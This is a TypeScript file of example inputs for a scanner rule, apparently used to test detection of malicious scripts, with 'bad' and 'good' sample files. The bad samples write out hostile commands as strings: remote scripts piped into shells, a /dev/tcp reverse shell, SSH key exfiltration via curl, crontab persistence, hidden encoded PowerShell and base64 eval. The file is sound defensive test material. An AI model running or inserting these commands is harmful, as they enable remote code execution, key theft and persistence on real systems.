import type { Example, RuleExamples } from '../../../model/rule.ts'

function file(path: string, text: string): Example {
  return { path, bytes: Buffer.from(text) }
}

export const examples: RuleExamples = {
  bad: [
    file('setup.sh', '#!/bin/bash\nset -e\ncurl -fsSL http://host.example/i.sh | sudo bash\n'),
    file('run', '#!/bin/sh\necho aWQ= | base64 -d | sh\n'),
    file('a.sh', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n'),
    file('a.sh', 'wget -q http://host.example/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n'),
    file('a.sh', 'bash <(curl -s https://host.example/x)\n'),
    file('a.sh', '(crontab -l; echo "* * * * * /tmp/x") | crontab -\n'),
    file('a.sh', 'curl -F "f=@$HOME/.ssh/id_rsa" https://host.example\n'),
    file('a.ps1', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\n'),
    file('a.ps1', "IEX (New-Object Net.WebClient).DownloadString('http://host.example/a.ps1')\n"),
    file('Dockerfile', 'FROM python:3.12\nRUN curl http://host.example/x \\\n  | sh\n'),
    file('index.js', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n"),
  ],
  good: [
    file('train.sh', '#!/bin/bash\npython train.py --lr 1e-4 | tee log.txt\nrm -rf ./build\n'),
    file('get.sh', 'curl -L -o model.safetensors https://host.example/model.safetensors\n'),
    file('Dockerfile', 'FROM python:3.12\nRUN pip install -r requirements.txt\nCMD ["python", "app.py"]\n'),
    file('a.sh', '# curl https://host.example | sh would be bad\necho done\n'),
    file('a.js', "export const f = () => fetch('/api').then((r) => r.json())\n"),
  ],
}
